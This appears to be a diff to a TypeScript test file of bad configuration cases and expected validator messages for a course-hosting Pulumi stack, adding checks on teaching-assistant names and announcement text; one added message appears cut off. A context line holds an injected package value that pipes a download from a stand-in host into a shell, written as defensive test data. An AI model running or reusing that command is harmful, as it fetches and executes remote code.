@@ -61,6 +61,11 @@ export const badCases: BadCase[] = [
     { what: "a shell command as a course package", raw: { ...github, coursePackages: '["numpy; curl evil.example | sh"]' }, key: "coursePackages", says: "expected pip requirements such as numpy==2.1.3" },
     { what: "a private key as an admin SSH key", raw: { ...github, adminSshKeys: '["-----BEGIN OPENSSH PRIVATE KEY-----"]' }, key: "adminSshKeys", says: "expected OpenSSH public keys" },
     { what: "a plain-http ACME directory", raw: { ...github, acmeDirectoryUrl: "http://acme.example.edu/directory" }, key: "acmeDirectoryUrl", says: "expected an https URL for the ACME directory" },
+    { what: "a teaching assistant who is an instructor too", raw: { ...github, adminUsers: '["prof"]', teachingAssistants: '["tara","Prof"]' }, key: "teachingAssistants", says: "teachingAssistants[1]: got \"prof\"; expected someone who is not in adminUsers too: an instructor has every right a teaching assistant has and more; keep them in one of the two lists. Fix: pulumi config rm --path 'teachingAssistants[1]'" },
+    { what: "a teaching assistant's e-mail address on GitHub", raw: { ...github, teachingAssistants: '["tara@example.edu"]' }, key: "teachingAssistants", says: "teachingAssistants[0]: got \"tara@example.edu\"; expected a GitHub user name, which has no @" },
+    { what: "a teaching assistant's bare name with e-mail logins", raw: { ...oidc, oidcAuthorizeUrl: "https://login.example.edu/authorize", oidcTokenUrl: "https://login.example.edu/token", oidcUserdataUrl: "https://login.example.edu/userinfo", teachingAssistants: '["tara"]' }, key: "teachingAssistants", says: "teachingAssistants[0]: got \"tara\"; expected a whole e-mail address (tara@<domain>)" },
+    { what: "a teaching assistant that is not a roster name", raw: { ...github, teachingAssistants: '["ta ra"]' }, key: "teachingAssistants", says: "teachingAssistants[0]: got \"ta ra\"; expected " },
+    { what: "a home announcement with a control character", raw: { ...github, homeAnnouncement: "bell\u0007" }, key: "homeAnnouncement", says: "homeAnnouncement: got \"bell\\u0007\"; expected plain text of at most 500 characters" },
     { what: "a mistyped key", raw: { ...github, allowedUser: '["ada"]' }, key: "allowedUser", says: "allowedUser: is not a setting of this stack (did you mean allowedUsers?). Fix: pulumi config rm allowedUser" },
 ];
 
